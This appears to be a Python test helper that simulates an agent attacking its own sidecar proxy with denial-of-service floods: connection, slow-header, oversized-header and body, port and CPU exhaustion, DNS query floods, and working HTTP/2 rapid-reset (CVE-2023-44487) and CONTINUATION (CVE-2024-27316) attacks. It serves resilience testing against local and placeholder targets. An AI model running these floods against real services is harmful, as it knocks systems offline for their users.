"""What an agent does to its sidecar to bring it down. The argument says which.

Prints a line of JSON once the flood holds, and another when it ends, which is when standard input does: what was done until
then, as counts by name. What fails is counted by the name of its error. Until the end it holds what it opened, or goes on.
"""

import collections
import json
import os
import re
import select
import socket
import ssl
import struct
import sys
import threading
import time

LONGEST_SECONDS = 20
# Between answers of a sidecar that has little of a processor.
QUIET_MILLISECONDS = 500
# Of a connection whose other end reads no more.
STALLED_SECONDS = 0.3
HOST = "starvation.walking.example.com"
FAR = "203.0.113.49"
PROXY = ("127.0.0.1", 15001)
MIB = 1024 * 1024
PROCESSES = 2 * (os.cpu_count() or 1)

counts = collections.Counter()
ended = threading.Event()


def failed(error):
    counts[type(error).__name__] += 1


def opened(to, data=b""):
    made = socket.socket()
    made.settimeout(2)
    try:
        made.connect(to)
        counts["opened"] += 1
        made.sendall(data)
        counts["sent"] += 1
    except OSError as error:
        failed(error)
    return made


def count_answers(made):
    """Of those that were answered, by status; some never are, so until no answer came for a while."""
    deadline = time.monotonic() + 5
    poll = select.poll()
    for used in made:
        poll.register(used, select.POLLIN)
    while time.monotonic() < deadline and (ready := poll.poll(QUIET_MILLISECONDS)):
        for number, _ in ready:
            poll.unregister(number)
    for used in made:
        used.setblocking(False)
        try:
            answer = used.recv(16)
            status = re.match(rb"HTTP/1\.1 ([0-9]{3})", answer)
            counts[status[1].decode() if status else "closed"] += 1
        except BlockingIOError:
            counts["unanswered"] += 1
        except OSError as error:
            failed(error)
    return made


def connections():
    return [opened((FAR, 80)) for _ in range(1000)] + [opened(PROXY) for _ in range(500)]


def slow_heads():
    return [opened(PROXY, b"GET http://a.example/ HTTP/1.1\r\nx: ") for _ in range(500)]


def giant_heads():
    head = b"GET http://a.example/ HTTP/1.1\r\nx: " + b"x" * 64 * 1024
    return count_answers([opened(PROXY, head) for _ in range(200)])


def bodies():
    head = b"POST http://a.example/ HTTP/1.1\r\nHost: a.example\r\nContent-Length: 1048576\r\n\r\n"
    return count_answers([opened(PROXY, head + b"x" * (MIB - 1)) for _ in range(120)])


def ports():
    held = []
    for port in range(32768, 61000):
        made = socket.socket()
        try:
            made.bind(("0.0.0.0", port))
            counts["bound"] += 1
        except OSError as error:
            failed(error)
        held.append(made)
        if len(held) > 18000:
            break
    return held


def question(number):
    name = b"%08d" % (number % 100000000)
    return b"\x00\x01\x01\x00\x00\x01" + bytes(6) + b"\x08" + name + b"\x07example\x00\x00\x01\x00\x01"


def questions():
    asks = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    asks.connect((FAR, 53))
    number = 0
    while not ended.is_set():
        number += 1
        try:
            asks.send(question(number))
            counts["asked"] += 1
        except OSError as error:
            failed(error)


def refusals():
    """One connection, one refused call after the other, each for another path."""
    while not ended.is_set():
        try:
            with socket.create_connection(PROXY, 5) as used:
                while not ended.is_set():
                    path = counts["called"]
                    used.sendall(b"GET http://a.example/%d/../x HTTP/1.1\r\nHost: a.example\r\n\r\n" % path)
                    counts["called"] += 1
                    if not used.recv(65536):
                        break
        except OSError as error:
            failed(error)


def processors():
    """Burns every processor, in processes of their own."""
    children = []
    for _ in range(PROCESSES):
        child = os.fork()
        if child == 0:
            end = time.monotonic() + LONGEST_SECONDS
            while time.monotonic() < end:
                pass
            os._exit(0)
        children.append(child)
        counts["burning"] += 1
    ended.wait()
    for child in children:
        os.kill(child, 9)
        _, status = os.waitpid(child, 0)
        # Ended by us, so it burned until now.
        counts["burned"] += os.WIFSIGNALED(status)


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


def fields(*pairs):
    return b"".join(b"\0" + bytes([len(text)]) + text + bytes([len(value)]) + value for text, value in pairs)


HEAD = fields((b":method", b"GET"), (b":scheme", b"https"), (b":authority", HOST.encode()), (b":path", b"/flood"))


def rapid_resets():
    """CVE-2023-44487."""
    for stream in range(1, 2**31, 2):
        yield frame(1, 0x5, stream, HEAD) + frame(3, 0, stream, struct.pack("!I", 8))


def continuations():
    """CVE-2024-27316: a head that never ends."""
    yield frame(1, 0, 1, HEAD)
    while True:
        yield frame(9, 0, 1, fields((b"x", b"y" * 100)) * 10)


def pings():
    while True:
        yield frame(6, 0, 0, bytes(8))


def settings():
    while True:
        yield frame(4, 0, 0, struct.pack("!HI", 3, 100))


def http2(name, frames):
    """Again whenever the sidecar hangs up, or reads no more."""
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    while not ended.is_set():
        try:
            with context.wrap_socket(socket.create_connection((HOST, 443), 5), server_hostname=HOST) as used:
                counts[f"{name} connections"] += 1
                used.settimeout(STALLED_SECONDS)
                used.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
                for one in frames():
                    if ended.is_set():
                        return
                    used.sendall(one)
                    counts[name] += 1
                    counts["frames"] += 1
        except OSError as error:
            failed(error)


HTTP2 = (rapid_resets, continuations, pings, settings)
HELD = {f.__name__: f for f in (connections, slow_heads, giant_heads, bodies, ports)}
GOES_ON = {
    "questions": [questions],
    "refusals": [refusals] * 4,
    "processors": [processors],
    "http2": [lambda f=f: http2(f.__name__, f) for f in HTTP2],
}
# What each of these has done when it holds.
ENOUGH = {
    "questions": {"asked": 1000},
    "refusals": {"called": 100},
    "processors": {"burning": PROCESSES},
    "http2": {f.__name__: 100 for f in HTTP2},
}


def say(what):
    print(json.dumps({"flood": what, "counts": dict(counts)}), flush=True)


name = sys.argv[1]
held = HELD[name]() if name in HELD else []
threads = [threading.Thread(target=work) for work in GOES_ON.get(name, [])]
for thread in threads:
    thread.start()
until = time.monotonic() + LONGEST_SECONDS
while any(counts[counted] < least for counted, least in ENOUGH.get(name, {}).items()) and time.monotonic() < until:
    time.sleep(0.05)
say("holds")
ready, _, _ = select.select([sys.stdin], [], [], LONGEST_SECONDS)
ended.set()
for thread in threads:
    thread.join()
say("ended" if ready else "was forgotten")
